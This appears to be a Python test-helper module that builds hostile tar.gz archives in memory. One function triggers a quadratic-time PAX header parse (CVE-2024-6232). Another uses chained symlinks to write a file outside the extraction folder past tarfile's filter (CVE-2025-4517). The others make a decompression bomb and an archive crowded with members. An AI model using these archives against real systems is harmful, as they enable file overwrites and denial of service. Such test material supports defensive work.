"""Archives of an attacker, made in memory."""

import gzip
import io
import tarfile

_DIGITS = 150_000


def slow() -> bytes:
    """Make an archive of some 200 bytes whose PAX header tarfile reads in a time that grows by the square.

    CVE-2024-6232.
    """
    header = tarfile.TarInfo("pax")
    header.type, header.size = tarfile.XHDTYPE, _DIGITS
    block = header.tobuf(tarfile.USTAR_FORMAT)
    return gzip.compress(block + b"1" * _DIGITS + bytes(-_DIGITS % 512 + 1024))


def escaping(name: str, content: bytes) -> bytes:
    """Make an archive that writes a file beside its folder, past the filter of tarfile.

    CVE-2025-4517: a path above PATH_MAX is not resolved to its end.

    Args:
        name: Of the file that it writes, in the folder above its own.
        content: What it writes.
    """
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:

        def add(kind: bytes, path: str, target: str = "") -> None:
            member = tarfile.TarInfo(path)
            member.type, member.linkname = kind, target
            archive.addfile(member)

        folder, steps, long = "", "abcdefghijklmnop", "d" * 247
        for step in steps:
            add(tarfile.DIRTYPE, f"{folder}{long}")
            add(tarfile.SYMTYPE, f"{folder}{step}", long)
            folder += f"{long}/"
        link = "/".join(steps) + "/" + "l" * 254
        add(tarfile.SYMTYPE, link, "../" * len(steps))
        add(tarfile.SYMTYPE, "escape", f"{link}/..")
        add(tarfile.LNKTYPE, "written", f"escape/{name}")
        member = tarfile.TarInfo("written")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    return packed.getvalue()


def bomb(size: int, name: str = "other") -> bytes:
    """Make an archive whose one file has many zeros."""
    header = tarfile.TarInfo(name)
    header.size = size
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb") as archive:
        archive.write(header.tobuf())
        for _ in range(size // 1024**2):
            archive.write(bytes(1024**2))
    return packed.getvalue()


def crowded(members: int) -> bytes:
    """Make an archive of many empty files."""
    return gzip.compress(tarfile.TarInfo("empty").tobuf() * members + bytes(1024))
